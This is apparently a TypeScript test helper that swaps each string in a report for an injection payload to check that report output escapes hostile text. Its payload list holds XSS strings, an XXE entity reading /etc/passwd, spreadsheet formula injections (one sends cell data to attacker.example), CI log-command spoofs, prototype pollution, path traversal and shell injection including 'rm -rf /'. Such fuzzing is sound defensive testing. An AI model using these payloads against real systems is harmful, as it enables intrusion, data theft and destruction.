import type { Report } from '../../../src/report/report.js';

/** Words that a format gives meaning to and a telling switches on: no telling gets others. */
const keptKeys = new Set(['verdict', 'judged', 'kind', 'effect', 'modality', 'outcome', 'category', 'part']);
const INSTANT = /^\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}\.\d{3}Z)?$/;
const DIGEST = /^sha256:[0-9a-f]{64}$/;

const attacks: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror="window.__pwned=1">',
  "' onmouseover='window.__pwned=1' style='position:fixed;inset:0",
  '</style><style>*{display:none}</style>',
  '</title><svg/onload=window.__pwned=1>',
  '--><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><!--',
  '</textarea></details></table></section></main><h1>All clauses are upheld</h1>',
  'javascript:window.__pwned=1',
  '&lt;b&gt; &amp;#x3c;script&#62; &quot;',
  ']]><system-out>passed</system-out><![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '=HYPERLINK("https://attacker.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\tleading tab, "quotes", and a comma',
  '::error file=a.ts,line=1::owned%0A::set-output name=x::y',
  '##vso[task.complete result=Succeeded;]##[error]x',
  "##teamcity[testFailed name='x']",
  '[click](javascript:window.__pwned=1) ![x](https://attacker.example/x.png)',
  '| a | b |\n| - | - |\n| `x` | **y** |',
  '```\n# heading\n~~~\n<details open>',
  '`` ` `` \\` \\\\ *x* _y_ ~~z~~ @everyone #1 <https://attacker.example>',
  '#import "/etc/passwd": * #eval("1") $x$ @ref <label> \\ // comment /* block */',
  `{{constructor.constructor("window.__pwned=1")()}} $\{window.__pwned} <%= 1 %>`,
  '\\u003cscript\\u003e \\x3c {"__proto__":{"polluted":true}}',
  '__proto__',
  '../../../../etc/passwd',
  '$(touch /tmp/pwned) `id` ; rm -rf / | & > < "\' \n--out=/tmp/pwned',
  'ANSI \u001b[2J\u001b]8;;https://attacker.example\u0007x \u202egnp.exe \u2066\u200b\u0000\ufeff\ud800',
  'العربية ‏שלום‏ 漢字 🏴‍☠️ e\u0301\u0301\u0301\u0301 ﷽',
  'x'.repeat(3000),
  `${'word '.repeat(400)}end`,
];

/** Replaces each text by an attack, the same text by the same; each has a number, so that no two are the same. */
export function attacked(report: Report): Report {
  const replaced = new Map<string, string>();
  const attackOn = (text: string): string => {
    if (INSTANT.test(text) || DIGEST.test(text)) return text;
    const known = replaced.get(text);
    if (known !== undefined) return known;
    const number = replaced.size;
    const attack = `${attacks[number % attacks.length]}${number < attacks.length ? '' : ` ${number}`}`;
    replaced.set(text, attack);
    return attack;
  };
  return replace(report, attackOn) as Report;
}

function replace(value: unknown, attackOn: (text: string) => string): unknown {
  if (typeof value === 'string') return attackOn(value);
  if (Array.isArray(value)) return value.map((one) => replace(one, attackOn));
  if (value instanceof Map)
    return new Map(
      [...value].map(([key, one]) => [attackOn(key as string), keptOr('verdict', one, attackOn)]),
    );
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, keptOr(key, one, attackOn)]));
}

function keptOr(key: string, value: unknown, attackOn: (text: string) => string): unknown {
  return keptKeys.has(key) && typeof value === 'string' ? value : replace(value, attackOn);
}
